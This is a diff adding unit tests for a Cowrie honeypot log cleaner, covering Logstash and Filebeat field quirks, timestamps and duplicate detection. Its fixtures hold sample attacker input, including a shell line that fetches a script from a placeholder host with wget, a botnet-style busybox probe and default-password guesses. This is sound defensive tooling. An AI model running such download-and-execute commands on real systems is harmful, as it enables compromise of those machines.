@@ -214,6 +214,43 @@ describe("CowrieEventCleaner", () => {
       assert.equal(offset.time, "2026-03-18T10:27:00.123Z");
     });
 
+    it("T-Pot's Logstash: `dest_ip` and `dest_port` as dst_ip and dst_port, a tunnel's too, beside the shipper's own fields", () => {
+      // T-Pot's logstash.conf renames dst_ip and dst_port on every Cowrie event and adds @timestamp, geoip, t-pot_ip_ext...
+      const tpot = (eventid: string, second: number, fields: Record<string, unknown>) => cowrie2(eventid, second, {
+        ...fields, "@timestamp": `2026-03-18T10:27:${String(second).padStart(2, "0")}.123Z`, "@version": "1", type: "Cowrie", host: "tpot",
+        path: "/data/cowrie/log/cowrie.json", "t-pot_ip_ext": "198.51.100.50", geoip: { ip: "203.0.113.7", country_code2: "US" }, tags: [],
+      });
+      const connect = clean(cleaner.clean(tpot("cowrie.session.connect", 0, { src_port: 51234, dest_ip: "10.0.0.2", dest_port: 22 })));
+      assert.deepEqual([connect.dst_ip, connect.dst_port], ["10.0.0.2", 22]);
+      const tunnel = clean(cleaner.clean(tpot("cowrie.direct-tcpip.request", 1, { dest_ip: "192.0.2.80", dest_port: 3389, src_port: 40488 })));
+      assert.deepEqual([tunnel.dst_ip, tunnel.dst_port], ["192.0.2.80", 3389]);
+      const command = clean(cleaner.clean(tpot("cowrie.command.input", 2, { input: "uname -a" })));
+      assert.deepEqual([command.dst_ip, command.dst_port, command.input], ["10.0.0.2", 22, "uname -a"]);
+    });
+
+    it("Logstash's `@timestamp` when a shipper's date filter removed `timestamp`", () => {
+      // logstash-filter-date's `remove_field => ["timestamp"]`, common in Cowrie pipelines: the time is left in @timestamp, to the millisecond.
+      const shipped: Record<string, unknown> = { ...cowrie2("cowrie.login.failed", 1, { username: "root", password: "1234" }), "@timestamp": "2026-03-18T10:27:01.123Z", "@version": "1" };
+      delete shipped.timestamp;
+      const event = clean(cleaner.clean(shipped));
+      assert.deepEqual([event.time, event.time_ms], ["2026-03-18T10:27:01.123Z", Date.parse("2026-03-18T10:27:01.123Z")]);
+      const both = clean(cleaner.clean({ ...shipped, session: "other", timestamp: "2026-03-18T10:27:01.123456Z" }));
+      assert.equal(both.time_ms, Date.parse("2026-03-18T10:27:01.123Z") + 0.456, "Cowrie's own timestamp first, with its microseconds");
+      assert.equal(rejection(cleaner.clean({ ...shipped, session: "third", "@timestamp": "yesterday" })), "bad-timestamp");
+    });
+
+    it("Filebeat's own `input` in place of a command's: the command from Cowrie's message", () => {
+      // Cowrie's documented Filebeat -> Logstash pipeline (cowrie/cowrie#1392, 2020): Filebeat's input {type: "log"} stays and the command's input is lost.
+      const shipped = (eventid: string, second: number, message: string) => cowrie2(eventid, second, {
+        input: { type: "log" }, message, agent: { type: "filebeat" }, ecs: { version: "1.5.0" }, log: { file: {} }, type: "cowrie",
+      });
+      assert.equal(clean(cleaner.clean(shipped("cowrie.command.input", 1, "CMD: uname -a; wget http://x/y.sh"))).input, "uname -a; wget http://x/y.sh");
+      assert.equal(clean(cleaner.clean(shipped("cowrie.command.failed", 2, "Command not found: busybox ECCHI"))).input, "busybox ECCHI");
+      assert.equal(clean(cleaner.clean(shipped("cowrie.command.success", 3, "Command found: enable"))).input, "enable");
+      assert.equal(clean(cleaner.clean(shipped("cowrie.command.input", 4, "something else"))).input, "unknown");
+      assert.equal(clean(cleaner.clean(cowrie2("cowrie.command.input", 5, { input: "ls", message: "CMD: cat" }))).input, "ls", "Cowrie's own input first");
+    });
+
     it("normalises IPv6 and IPv4-mapped addresses and knows internal ones", () => {
       const v6 = clean(cleaner.clean(cowrie2("cowrie.session.connect", 1, { src_ip: "2001:DB8:0:0::7", dst_ip: "FD00::2", src_port: 1, dst_port: 22 })));
       assert.deepEqual([v6.src_ip, v6.dst_ip, v6.is_internal_ip], ["2001:db8::7", "fd00::2", false]);
@@ -375,6 +412,22 @@ describe("CowrieEventCleaner", () => {
       assert.equal(cleaner.clean({ ...login, eventid: "cowrie.login.success" }).kind, "clean");
       assert.equal(cleaner.clean({ ...login, uuid: "u-2" }).kind, "clean", "another sensor instance");
       assert.deepEqual(cleaner.counts, { clean: 4, rejected: 0, duplicates: 2 });
+    });
+
+    it("keeps two events of one session and second that say different things, in a log whose times stop at the second or the millisecond", () => {
+      // Cowrie writes microseconds; a log exported through Elasticsearch (@timestamp), a SIEM or a script that reformats
+      // times keeps milliseconds or seconds, and a bot's commands, a brute force's passwords share a time there.
+      for (const time of ["2026-03-18T10:27:01Z", "2026-03-18T10:27:01.123Z"]) {
+        const at = (eventid: string, fields: Record<string, unknown>) => cleaner.clean(cowrie2(eventid, 1, { ...fields, timestamp: time, uuid: "u-1" })).kind;
+        assert.equal(at("cowrie.command.input", { input: "uname -a", message: "CMD: uname -a" }), "clean");
+        assert.equal(at("cowrie.command.input", { input: "cat /proc/cpuinfo", message: "CMD: cat /proc/cpuinfo" }), "clean", time);
+        assert.equal(at("cowrie.login.failed", { username: "root", password: "1234" }), "clean");
+        assert.equal(at("cowrie.login.failed", { username: "root", password: "admin" }), "clean", time);
+        assert.equal(at("cowrie.client.var", { name: "LANG", value: "C", message: "request_env: LANG=C" }), "clean");
+        assert.equal(at("cowrie.client.var", { name: "TERM", value: "xterm", message: "request_env: TERM=xterm" }), "clean", time);
+        assert.equal(at("cowrie.command.input", { input: "uname -a", message: "CMD: uname -a" }), "duplicate", "the same line read again");
+        cleaner = new CowrieEventCleaner({ now: () => NOW });
+      }
     });
 
     it("cleans an event whose uuid is an object or array, as a line of valid JSON can carry, without throwing", () => {
